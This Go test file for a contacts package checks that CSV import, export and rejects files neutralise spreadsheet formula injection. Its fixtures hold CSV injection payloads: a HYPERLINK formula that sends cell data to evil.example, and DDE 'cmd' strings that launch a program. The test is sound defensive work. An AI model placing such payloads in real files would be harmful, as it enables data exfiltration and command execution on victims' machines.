package contacts

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// formulaCells lists the cells of a CSV file that a spreadsheet would run.
func formulaCells(t *testing.T, data []byte, sep rune) []string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	r.Comma = sep
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var bad []string
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				bad = append(bad, c)
			}
		}
	}
	return bad
}

// Values that came from a form or a file and start like a formula are
// written as text in the contacts export and in the rejects file.
func TestCSVFilesNeutraliseFormulas(t *testing.T) {
	st := openStore(t)
	var in bytes.Buffer
	w := csv.NewWriter(&in)
	w.Comma = ';'
	w.WriteAll([][]string{
		{"email", "first_name", "company", "phone"},
		{"ana@example.com", `=HYPERLINK("http://evil.example/?"&A1;"Click")`, `=cmd|' /C calc'!A0`, "+33612345678"},
		{`=cmd|' /C calc'!A0`, "@SUM(1+1)", "-2+3+cmd|x", "+1 555"},
	})
	res, err := Import(bg, st, &in, ImportOptions{Now: now})
	if err != nil {
		t.Fatal(err)
	}
	if res.Created != 1 || len(res.Rejects) != 1 {
		t.Fatalf("import: %+v", res)
	}

	var exp bytes.Buffer
	if _, err := ExportCSV(bg, st, &exp, ListQuery{}); err != nil {
		t.Fatal(err)
	}
	if bad := formulaCells(t, exp.Bytes(), ','); len(bad) != 1 || bad[0] != "+33612345678" {
		t.Errorf("export has cells a spreadsheet runs: %q\n%s", bad, exp.String())
	}
	if !strings.Contains(exp.String(), `'=HYPERLINK(`) || !strings.Contains(exp.String(), `'=cmd|`) {
		t.Errorf("export lost the values:\n%s", exp.String())
	}

	var rej bytes.Buffer
	if err := WriteRejects(&rej, res); err != nil {
		t.Fatal(err)
	}
	if bad := formulaCells(t, rej.Bytes(), ';'); len(bad) != 1 || bad[0] != "+1 555" {
		t.Errorf("rejects file has cells a spreadsheet runs: %q\n%s", bad, rej.String())
	}
	for _, want := range []string{`'=cmd|`, `'@SUM(1+1)`, `'-2+3+cmd|x`} {
		if !strings.Contains(rej.String(), want) {
			t.Errorf("rejects file lacks %q:\n%s", want, rej.String())
		}
	}
}
